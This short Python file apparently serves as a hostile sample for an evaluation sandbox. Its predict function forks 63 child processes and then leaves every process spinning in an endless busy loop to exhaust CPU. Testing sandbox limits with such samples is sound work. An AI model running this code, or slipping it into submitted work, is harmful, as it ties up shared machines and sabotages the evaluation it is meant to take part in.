"""Spins in as many processes as its limit of them allows, nearly."""

import os


def predict(task, input):
    for _ in range(63):
        if os.fork() == 0:
            break
    while True:
        pass
